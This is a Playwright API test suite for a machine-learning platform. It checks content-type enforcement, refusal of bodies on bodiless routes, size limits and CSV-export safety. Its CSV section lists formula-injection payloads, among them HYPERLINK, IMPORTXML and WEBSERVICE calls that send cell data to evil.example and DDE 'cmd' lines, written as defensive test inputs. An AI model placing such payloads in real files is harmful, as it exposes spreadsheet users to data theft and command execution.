/**
 * Guards at the edge of the API: JSON means a JSON content type, a route that takes no body
 * refuses one, and a CSV export never hands a spreadsheet a formula to run.
 */
import net from "node:net";
import { expect, test, type APIRequestContext, type APIResponse } from "@playwright/test";
import { createProject, expectJson, expectProblem, raw, sendChunked, uniq, upload, type Project } from "./helpers";
import { deploy, register, trainRun } from "./endpoint-helpers";
import { idCsv, linearCsv, projectWithRecipe, type Run } from "./train-helpers";

/** A body of 20 MiB, past any limit a route that takes no body has. */
const TWENTY_MIB = 20 * 1024 * 1024;

/** Answers of requests Playwright cannot make (it always names a content type), as expectProblem reads them. */
interface RawAnswer {
  status: number;
  contentType: string;
  body: string;
}

function expectRawProblem(res: RawAnswer, status: number, field: string): void {
  expect(res.status, res.body.slice(0, 300)).toBe(status);
  expect(res.contentType).toContain("application/problem+json");
  expect((JSON.parse(res.body) as { errors?: { field: string }[] }).errors?.map((e) => e.field)).toContain(field);
}

/** POSTs `body` with a declared length and no content type at all (bytes get none from fetch). */
async function postUntyped(baseURL: string, path: string, headers: Record<string, string>, body: string): Promise<RawAnswer> {
  const res = await fetch(new URL(path, baseURL), { method: "POST", headers, body: new TextEncoder().encode(body) });
  return { status: res.status, contentType: res.headers.get("content-type") ?? "", body: await res.text() };
}

async function projectsNamed(request: APIRequestContext, name: string): Promise<Project[]> {
  const { items } = await expectJson<{ items: Project[] }>(await request.get("/api/projects"), 200);
  return items.filter((p) => p.name === name);
}

test.describe("JSON means JSON", () => {
  test("a JSON body sent as text/plain, or with no content type, is refused with 415 naming content-type; nothing is created", async ({
    request,
    baseURL,
    extraHTTPHeaders,
  }) => {
    const name = uniq("Not JSON");
    const body = JSON.stringify({ name, task: "regression" });
    for (const type of ["text/plain", "text/plain;charset=json", "text/plain; charset=json", "application/x-www-form-urlencoded", "text/json"]) {
      const problem = await expectProblem(await request.post("/api/projects", { headers: { "content-type": type }, data: raw(body) }), 415, "content-type");
      expect(problem.detail).toContain(type.split(";")[0]);
    }
    // What a cross-site HTML form posts.
    await expectProblem(await request.post("/api/projects", { form: { name, task: "regression" } }), 415, "content-type");
    // No content type at all: with a declared length, and streamed (chunked).
    expectRawProblem(await postUntyped(baseURL!, "/api/projects", { ...extraHTTPHeaders }, body), 415, "content-type");
    expectRawProblem(await sendChunked(baseURL!, "/api/projects", "POST", { ...extraHTTPHeaders }, [body.slice(0, 10), body.slice(10)]), 415, "content-type");
    expect(await projectsNamed(request, name)).toEqual([]);
  });

  test("application/json with parameters and application/merge-patch+json are JSON", async ({ request }) => {
    const name = uniq("JSON with a charset");
    const created = await expectJson<Project>(
      await request.post("/api/projects", {
        headers: { "content-type": "Application/JSON; charset=utf-8" },
        data: raw(JSON.stringify({ name, task: "regression" })),
      }),
      201,
    );
    expect(created.name).toBe(name);
    const patched = await expectJson<Project>(
      await request.patch(`/api/projects/${created.id}`, {
        headers: { "content-type": "application/merge-patch+json" },
        data: raw(JSON.stringify({ description: "merged" })),
      }),
      200,
    );
    expect(patched.description).toBe("merged");
    // The PATCH of another type changes nothing.
    await expectProblem(
      await request.patch(`/api/projects/${created.id}`, { headers: { "content-type": "text/plain" }, data: raw(JSON.stringify({ description: "plain" })) }),
      415,
      "content-type",
    );
    expect((await expectJson<Project>(await request.get(`/api/projects/${created.id}`), 200)).description).toBe("merged");
  });
});

test.describe("a route that takes no body refuses one", () => {
  /** The refusals every bodiless POST gives, before it looks up or does anything. */
  async function expectBodyRefused(request: APIRequestContext, url: string): Promise<void> {
    await expectProblem(
      await request.post(url, { headers: { "content-type": "application/xml" }, data: raw("<retrain><algorithm>mlp</algorithm></retrain>") }),
      415,
      "content-type",
    );
    await expectProblem(await request.post(url, { headers: { "content-type": "text/plain" }, data: raw("{}") }), 415, "content-type");
    await expectProblem(await request.post(url, { headers: { "content-type": "application/json" }, data: Buffer.alloc(TWENTY_MIB, " ") }), 413, "body");
    await expectProblem(await request.post(url, { data: { algorithm: "mlp" } }), 422, "body");
  }

  const runsOf = async (request: APIRequestContext, projectId: string) =>
    (await expectJson<{ items: Run[] }>(await request.get(`/api/projects/${projectId}/runs`), 200)).items;

  test("retrain with an XML or a 20 MiB body queues no run; with none or {} it does", async ({ request, baseURL, extraHTTPHeaders }) => {
    test.setTimeout(180_000);
    const project = await projectWithRecipe(request, "regression", linearCsv(80), "y");
    const run = await trainRun(request, project.id, "linear", { epochs: 3 });
    const ep = await deploy(request, (await register(request, run.id)).id, {}, "guards");
    const url = `/api/endpoints/${ep.name}/retrain`;
    const before = (await runsOf(request, project.id)).length;

    await expectBodyRefused(request, url);
    expectRawProblem(await postUntyped(baseURL!, url, { ...extraHTTPHeaders }, "{}"), 415, "content-type");
    // Streamed without a length: read only up to the limit, then refused.
    const chunk = Buffer.alloc(1024 * 1024, " ");
    const streamed = await sendChunked(
      baseURL!,
      url,
      "POST",
      { ...extraHTTPHeaders, "content-type": "application/json" },
      Array.from({ length: 20 }, () => chunk),
    );
    expectRawProblem(streamed, 413, "body");
    expect(await runsOf(request, project.id)).toHaveLength(before);

    const queued = await expectJson<{ runId: string }>(await request.post(url), 202);
    const queuedToo = await expectJson<{ runId: string }>(await request.post(url, { data: {} }), 202);
    expect((await runsOf(request, project.id)).map((r) => r.id)).toEqual(expect.arrayContaining([queued.runId, queuedToo.runId]));
    expect(await runsOf(request, project.id)).toHaveLength(before + 2);

    // Cancelling a run takes no body either.
    for (const runId of [queued.runId, queuedToo.runId]) {
      await expectBodyRefused(request, `/api/runs/${runId}/cancel`);
      const cancelled = await request.post(`/api/runs/${runId}/cancel`);
      expect([200, 409], await cancelled.text()).toContain(cancelled.status());
    }

    // A route whose body is optional refuses one that is not JSON: the key is not rotated.
    await expectProblem(
      await request.post(`/api/endpoints/${ep.name}/keys`, { headers: { "content-type": "text/plain" }, data: raw('{"slot":"primary"}') }),
      415,
      "content-type",
    );
    // JSON null is a body, not the absence of one.
    await expectProblem(
      await request.post(`/api/endpoints/${ep.name}/keys`, { headers: { "content-type": "application/json" }, data: raw("null") }),
      422,
      "body",
    );
    const auth = { authorization: `Bearer ${ep.key}` };
    const rows = [{ a: 1, b: 1, colour: "red" }];
    const scored = await request.post(`/api/endpoints/${ep.name}/score`, { headers: auth, data: { rows } });
    expect(scored.status(), await scored.text()).toBe(200);

    // Scoring reads JSON or text/csv; a type that merely mentions json is neither.
    await expectProblem(
      await request.post(`/api/endpoints/${ep.name}/score`, {
        headers: { ...auth, "content-type": "text/plain;charset=json" },
        data: raw(JSON.stringify({ rows })),
      }),
      415,
      "content-type",
    );
    // V2 refuses another type, and reads a body with none as JSON (Open Inference Protocol clients send none).
    const v2 = JSON.stringify({
      inputs: [
        { name: "a", datatype: "FP64", shape: [1], data: [1] },
        { name: "b", datatype: "FP64", shape: [1], data: [1] },
        { name: "colour", datatype: "BYTES", shape: [1], data: ["red"] },
      ],
    });
    await expectProblem(
      await request.post(`/v2/models/${ep.name}/infer`, { headers: { ...auth, "content-type": "text/plain" }, data: raw(v2) }),
      415,
      "content-type",
    );
    const untyped = await postUntyped(baseURL!, `/v2/models/${ep.name}/infer`, auth, v2);
    expect(untyped.status, untyped.body.slice(0, 300)).toBe(200);
  });

  test("a DELETE refuses a body rather than ignoring it: the project stays until a DELETE with none", async ({ request }) => {
    const project = await createProject(request, { name: uniq("Deleted with a body"), task: "regression" });
    const url = `/api/projects/${project.id}`;
    await expectProblem(await request.delete(url, { headers: { "content-type": "text/plain" }, data: raw("{}") }), 415, "content-type");
    await expectProblem(await request.delete(url, { headers: { "content-type": "application/json" }, data: raw("{") }), 400, "body");
    await expectProblem(await request.delete(url, { data: { confirm: true } }), 422, "body");
    await expectJson(await request.get(url), 200);
    expect((await request.delete(url)).status()).toBe(204);
    await expectProblem(await request.get(url), 404);
  });

  test("evaluating alerts, running a schedule and cancelling a job refuse a body before anything else", async ({ request }) => {
    await expectBodyRefused(request, "/api/alerts/evaluate");
    expect(await expectJson<{ evaluated: number }>(await request.post("/api/alerts/evaluate"), 200)).toHaveProperty("evaluated");
    await expectJson(await request.post("/api/alerts/evaluate", { data: {} }), 200);
    // Refused before the schedule or job is looked up: 415, not 404.
    await expectBodyRefused(request, "/api/schedules/sch_nope/run");
    await expectProblem(await request.post("/api/schedules/sch_nope/run"), 404);
    await expectBodyRefused(request, "/api/jobs/job_nope/cancel");
    await expectProblem(await request.post("/api/jobs/job_nope/cancel"), 404);
  });
});

test.describe("CSV exports are safe to open in a spreadsheet", () => {
  /** Text cells a spreadsheet would run as formulas (OWASP CSV injection), 16 kinds. */
  const DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-cmd",
    "-2+3+cmd|' /C calc'!A0",
    "-1+2",
    "-Infinity",
    "@SUM(A1)",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
  ];
  /** Numeric text and harmless text: written as they came. */
  const HARMLESS = ["-5", "+5", "-1.5e3", "-.5", "3", "a=1", " =1", "x-y", "'=already quoted"];
  /** What a spreadsheet reads as the start of a formula; numeric text is none. */
  const FORMULA_START = /^[=+\-@\t\r]/;
  const NUMERIC_TEXT = /^[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?$/;

  const cell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);

  /** RFC 4180 records: quoted cells may hold commas, quotes, CR and LF. */
  function parseCsv(text: string): string[][] {
    const records: string[][] = [];
    let record: string[] = [];
    let value = "";
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i];
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') (value += '"'), i++;
        else if (c === '"') quoted = false;
        else value += c;
      } else if (c === '"' && value === "") quoted = true;
      else if (c === ",") record.push(value), (value = "");
      else if (c === "\n" || (c === "\r" && text[i + 1] === "\n")) {
        if (c === "\r") i++;
        record.push(value);
        records.push(record);
        (record = []), (value = "");
      } else value += c;
    }
    if (value !== "" || record.length) record.push(value), records.push(record);
    return records;
  }

  /** The input: every dangerous note beside negative numbers, the harmless notes, a dangerous id, and a dangerous number cell (a row error). */
  function inputCsv(): { csv: string; rows: string[][] } {
    const rows: string[][] = [];
    DANGEROUS.forEach((note, i) => rows.push([`r${i}`, i % 2 ? "-5" : "-1.5e3", "-0.5", note]));
    HARMLESS.forEach((note, i) => rows.push([`h${i}`, "1.25", "-2", note]));
    rows.push(["=1+1", "2", "3", "an id a spreadsheet would run"]);
    rows.push(["bad", "-cmd", "-1", "a formula where a number belongs"]);
    return { csv: ["id,a,b,note", ...rows.map((r) => r.map(cell).join(","))].join("\n") + "\n", rows };
  }

  /** A linear model on a, b deployed as a batch endpoint (the id and note columns pass through). */
  async function deployLinear(request: APIRequestContext): Promise<{ name: string; key: string }> {
    const ds = await upload(request, uniq("guards training"), idCsv(200));
    const project = await createProject(request, { name: uniq("guards jobs"), task: "regression", datasetId: ds.id, target: "y" });
    await expectJson(
      await request.put(`/api/projects/${project.id}/recipe`, {
        data: { datasetId: ds.id, target: "y", features: ["a", "b"], steps: [], split: { method: "random", validation: 0.2, seed: 2 } },
      }),
      201,
    );
    const run = await trainRun(request, project.id, "linear", { epochs: 20 });
    const model = await expectJson<{ id: string }>(await request.post("/api/models", { data: { runId: run.id } }), 201);
    const name = uniq("guards-batch")
      .toLowerCase()
      .replace(/[^a-z0-9-]/g, "-");
    return expectJson<{ name: string; key: string }>(await request.post("/api/endpoints", { data: { name, modelId: model.id, mode: "batch" } }), 201);
  }

  async function finishedOutput(request: APIRequestContext, queued: APIResponse): Promise<string[][]> {
    const job = await expectJson<{ id: string }>(queued, 202);
    let status = "";
    await expect
      .poll(async () => (status = (await expectJson<{ status: string }>(await request.get(`/api/jobs/${job.id}`), 200)).status), {
        timeout: 120_000,
        intervals: [250, 500, 1000],
      })
      .toMatch(/^(succeeded|failed|cancelled)$/);
    expect(status).toBe("succeeded");
    const res = await request.get(`/api/jobs/${job.id}/output.csv`);
    expect(res.status()).toBe(200);
    return parseCsv(await res.text());
  }

  /** No cell of the output starts a formula unless it is numeric text. */
  function expectNoFormula(records: string[][]): void {
    for (const [i, record] of records.entries()) {
      for (const value of record) if (FORMULA_START.test(value)) expect(NUMERIC_TEXT.test(value), `record ${i}: ${JSON.stringify(value)}`).toBe(true);
    }
  }

  test("a batch job's output.csv writes each formula-like text cell with a leading ' and numbers as they are, from a file and from a dataset", async ({
    request,
  }) => {
    test.setTimeout(240_000);
    const ep = await deployLinear(request);
    const auth = { authorization: `Bearer ${ep.key}` };
    const { csv, rows } = inputCsv();

    // A text/csv body: a plain file for a per-column recipe (the columnar reader, with such records on the row path).
    const [header, ...out] = await finishedOutput(
      request,
      await request.post(`/api/endpoints/${ep.name}/jobs`, { headers: { ...auth, "content-type": "text/csv" }, data: Buffer.from(csv) }),
    );
    expect(header).toEqual(["id", "a", "b", "note", "prediction", "error"]);
    expect(out).toHaveLength(rows.length);
    DANGEROUS.forEach((note, i) => {
      expect(out[i].slice(0, 4), JSON.stringify(note)).toEqual([`r${i}`, i % 2 ? "-5" : "-1.5e3", "-0.5", `'${note}`]);
      expect(Number.isFinite(Number(out[i][4])) && out[i][4] !== "", `prediction of ${JSON.stringify(note)}`).toBe(true);
      expect(out[i][5]).toBe("");
    });
    HARMLESS.forEach((note, i) => expect(out[DANGEROUS.length + i].slice(0, 4)).toEqual([`h${i}`, "1.25", "-2", note]));
    const [dangerousId, badNumber] = out.slice(DANGEROUS.length + HARMLESS.length);
    expect(dangerousId.slice(0, 4)).toEqual(["'=1+1", "2", "3", "an id a spreadsheet would run"]);
    expect(badNumber.slice(0, 4)).toEqual(["bad", "'-cmd", "-1", "a formula where a number belongs"]);
    expect(badNumber[4]).toBe("");
    expect(badNumber[5]).not.toBe("");
    expectNoFormula([header, ...out]);

    // The same rows as a dataset version: the row path, from the stored cells.
    const ds = await upload(request, uniq("guards formulas"), csv);
    const fromDataset = await finishedOutput(request, await request.post(`/api/endpoints/${ep.name}/jobs`, { headers: auth, data: { datasetId: ds.id } }));
    expect(fromDataset.slice(1)).toHaveLength(rows.length);
    DANGEROUS.forEach((note, i) => expect(fromDataset[1 + i][3], JSON.stringify(note)).toBe(`'${note}`));
    HARMLESS.forEach((note, i) => expect(fromDataset[1 + DANGEROUS.length + i][3]).toBe(note));
    expectNoFormula(fromDataset);
  });
});

test("what Node's HTTP parser refuses is a problem too: headers past 16 KiB → 431 naming headers, malformed HTTP → 400", async ({ baseURL }) => {
  const { hostname, port } = new URL(baseURL!);
  const rawExchange = (bytes: string) =>
    new Promise<RawAnswer>((resolve, reject) => {
      const socket = net.connect(Number(port), hostname, () => socket.end(bytes));
      let text = "";
      socket.on("data", (b: Buffer) => (text += b.toString()));
      socket.on("error", reject);
      socket.on("close", () => {
        const [head, body = ""] = text.split("\r\n\r\n");
        resolve({ status: Number(head.split(" ")[1]), contentType: /content-type: ([^\r\n]+)/i.exec(head)?.[1] ?? "", body });
      });
    });
  expectRawProblem(await rawExchange(`GET /api/health HTTP/1.1\r\nhost: x\r\nx-big: ${"a".repeat(20 * 1024)}\r\n\r\n`), 431, "headers");
  expectRawProblem(await rawExchange("NOT HTTP AT ALL\r\n\r\n"), 400, "request");
});
